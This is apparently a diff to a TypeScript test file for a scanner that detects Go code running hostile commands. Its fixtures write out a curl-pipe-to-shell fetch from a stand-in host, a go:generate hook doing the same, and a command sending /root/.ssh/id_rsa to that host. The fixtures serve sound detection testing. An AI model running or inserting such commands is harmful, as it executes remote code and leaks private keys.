@@ -7,12 +7,15 @@ const FETCH = 'curl -s https://collect.example.invalid/x.sh | sh';
 /** The same where it stands between quotes of its own. */
 const json = (value: unknown): string => JSON.stringify(value);
 
+/** How a program in Go begins that starts others. */
+const START = 'package main\n\nimport "os/exec"\n\nfunc main() {\n';
+
 /** A file, what in it tells the system to run something, and the same that only speaks of it or runs something else. */
 const TOLD: readonly (readonly [path: string, attack: string, honest: string])[] = [
   [
     'main.go',
-    `func main() {\n\texec.CommandContext(ctx, "sh", "-c", "${FETCH}").Run()\n}`,
-    `// exec.Command("sh", "-c", "${FETCH}")\nfunc main() {\n\tfmt.Println("${FETCH}")\n\texec.Command("git", "log").Run()\n}`,
+    `package main\nimport "os/exec"\nfunc main() {\n\texec.CommandContext(ctx, "sh", "-c", "${FETCH}").Run()\n}`,
+    `package main\n// exec.Command("sh", "-c", "${FETCH}")\nimport (\n"fmt"\n"os/exec"\n)\nfunc main() {\n\tfmt.Println("${FETCH}")\n\texec.Command("git", "log").Run()\n}`,
   ],
   ['tools.go', `//go:generate sh -c "${FETCH}"`, '//go:generate stringer -type=Kind'],
   [
@@ -124,12 +127,12 @@ describe('a command that a file in another language has run', () => {
   });
 
   it('is put together from pieces, with a variable for what is not known', async () => {
-    const text = 'exec.Command("sh", "-c", "curl -s https://" + host + "/x.sh" + " | sh")';
+    const text = `${START}exec.Command("sh", "-c", "curl -s https://" + host + "/x.sh" + " | sh")\n}`;
     expect(await findings('main.go', text)).toContain('downloaded-script-piped main.go');
   });
 
   it('is found where a secret leaves by it', async () => {
-    const text = 'exec.Command("curl", "-d", "@/root/.ssh/id_rsa", "https://collect.example.invalid/").Run()';
+    const text = `${START}exec.Command("curl", "-d", "@/root/.ssh/id_rsa", "https://collect.example.invalid/").Run()\n}`;
     expect(await findings('cmd/main.go', text)).toContain('secret-file-to-network cmd/main.go');
   });
 
